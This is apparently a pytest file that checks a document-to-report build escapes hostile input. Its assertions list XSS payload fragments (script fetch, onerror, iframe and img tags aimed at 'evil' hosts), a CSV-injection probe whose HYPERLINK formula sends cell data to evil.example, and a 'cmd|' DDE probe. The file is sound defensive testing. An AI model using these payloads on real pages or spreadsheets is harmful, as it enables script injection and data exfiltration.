"""Text from documents is data: a build whose seeds carry HTML/script shows it as text, nothing
executes, and no request leaves the page."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys

import pytest

from helpers.core.paths import ROOT

from .browser import browser, serve, visit
from .conftest import FIXTURES

pytestmark = [pytest.mark.pipeline, pytest.mark.browser]

HOSTILE = FIXTURES / "hostile"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    project = tmp_path_factory.mktemp("project")
    for name in ("notebooks", "seeds"):
        shutil.copytree(ROOT / name, project / name, ignore=shutil.ignore_patterns("*.executing.ipynb"))
    shutil.copy(ROOT / "requirements.lock", project / "requirements.lock")
    for f in HOSTILE.iterdir():
        shutil.copy(f, project / "seeds" / "documents" / f.name)
    env = dict(os.environ, WORKBOOK_ROOT=str(project), CI="1")
    proc = subprocess.run(
        [sys.executable, "-m", "helpers", "build", "--out", str(project / "reports")],
        env=env,
        capture_output=True,
        text=True,
        timeout=1200,
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    return project / "reports"


def test_payloads_are_escaped_in_the_html(hostile_site):
    corpus = (hostile_site / "01-corpus.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;document.title=" in corpus
    for page in hostile_site.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        for raw in (
            "<script>document.title",
            "<script>fetch(",
            "<img src=x onerror",
            '<iframe src="http://evil',
            "<svg onload",
            '<a href="javascript:',
            '<img src="http://evil',
            "<b onmouseover",
        ):
            assert raw not in text, (page.name, raw)


def test_nothing_executes_and_nothing_is_fetched(hostile_site):
    pages = sorted(p.relative_to(hostile_site).as_posix() for p in hostile_site.rglob("*.html"))
    with serve(hostile_site) as base, browser() as b:
        for rel in pages:
            record, facts = visit(
                b,
                base + rel,
                lambda p: {
                    "title": p.title(),
                    "scripts": p.eval_on_selector_all("script", "els => els.length"),
                    "injected": p.eval_on_selector_all(
                        "iframe, svg[onload], img[onerror], [onmouseover]", "els => els.length"
                    ),
                    "text": p.inner_text("body"),
                    "h1": p.eval_on_selector_all("h1", "els => els.map(e => e.innerText)"),
                },
            )
            assert "pwned" not in facts["title"], rel
            assert facts["injected"] == 0 and facts["scripts"] <= 1, rel
            # the img payload would replace the whole body by 'owned': the page keeps its heading and footer
            assert facts["h1"] and all(h in facts["text"] for h in facts["h1"]), rel
            assert "data snapshot" in facts["text"].lower() or rel.endswith("/index.html"), rel
            assert record.dialogs == [] and record.page_errors == [], rel
            assert all(r.startswith(base) or r.startswith("data:") for r in record.requests), (rel, record.requests)
            assert not any("evil.example" in r for r in record.requests)
            if rel == "01-corpus.html":
                assert "<script>document.title='pwned'</script>CD19 CAR T cells in lupus" in facts["text"]
                assert "onerror=\"document.body.innerHTML='owned'\"" in facts["text"]  # shown as text


def _is_number(cell: str) -> bool:
    try:
        float(cell.removesuffix("%"))
    except ValueError:
        return False
    return True


def test_no_published_csv_cell_can_run_as_a_formula(hostile_site):
    """The formula probe's title, authors and sentences reach the tables, neutralised (CSV injection)."""
    cells, probe_cells = 0, []
    for table in sorted((hostile_site / "data").glob("*.csv")):
        with table.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    cells += 1
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(cell), (table.name, cell)
                    if "HYPERLINK" in cell or "cmd|" in cell or "@SUM" in cell:
                        probe_cells.append(cell)
    assert cells > 1000
    assert any(c.startswith("'=HYPERLINK(") for c in probe_cells)  # shown as text, not dropped
    assert any(c.startswith("'=1+1 CD19") or c.startswith("'+cmd|") for c in probe_cells)


def test_the_probe_goes_through_json_and_html_as_data(hostile_site):
    env = dict(os.environ, CI="1")
    proc = subprocess.run(
        [sys.executable, "-m", "helpers", "ingest", str(HOSTILE), "--json"],
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    data = json.loads(proc.stdout)
    titles = {d["source_file"].rsplit("/", 1)[-1]: d["title"] for d in data["documents"]}
    assert titles["formula_probe.md"].startswith('=HYPERLINK("http://evil.example/?leak="&A1,')
    assert len(data["manifest"]) == len(list(HOSTILE.iterdir()))
    corpus = (hostile_site / "01-corpus.html").read_text(encoding="utf-8")
    # shown as escaped text (quotes may be written as &quot; or as they are inside a text node)
    assert re.search(r'=HYPERLINK\((?:&quot;|")http://evil\.example/\?leak=(?:&quot;|")&amp;A1', corpus)
